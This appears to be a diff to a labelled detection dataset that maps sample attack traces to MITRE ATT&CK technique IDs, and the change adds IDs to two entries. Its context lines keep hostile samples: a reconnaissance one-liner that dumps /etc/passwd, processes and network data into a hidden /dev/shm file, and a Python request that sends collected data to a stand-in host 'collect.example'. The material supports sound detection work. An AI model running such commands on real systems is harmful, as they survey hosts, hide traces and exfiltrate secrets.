@@ -25,7 +25,7 @@ except OSError: pass
       '{ id; uname -a; hostname; ps aux; ip addr; netstat -tln; cat /proc/cpuinfo /etc/passwd; w; } > /dev/shm/.i 2>&1',
     ]),
     shows: {
-      trace_surveys_system: ['T1033', 'T1082', 'T1057', 'T1016'],
+      trace_surveys_system: ['T1033', 'T1082', 'T1057', 'T1016', 'T1049'],
       trace_hides_files: ['T1564.001'],
     },
     label: 'unknown',
@@ -77,7 +77,7 @@ urllib.request.urlopen(urllib.request.Request("http://collect.example/up.php", d
 `,
     shows: {
       trace_reads_stored_secrets: ['T1003.008', 'T1552.004'],
-      trace_sends_data_out: ['T1041'],
+      trace_sends_data_out: ['T1041', 'T1071.001'],
       trace_sends_secrets: ['T1552.001', 'T1041'],
     },
     label: 'malicious',
